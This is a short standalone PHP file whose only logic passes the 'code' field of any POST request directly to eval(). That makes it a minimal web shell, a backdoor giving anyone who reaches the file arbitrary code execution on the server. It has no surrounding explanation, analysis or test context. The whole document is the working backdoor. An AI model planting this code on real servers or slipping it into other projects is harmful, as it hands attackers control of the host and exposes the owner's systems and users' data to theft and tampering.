<?php
// Runs whatever PHP code the request carries.
if (isset($_POST['code'])) {
    eval($_POST['code']);
}
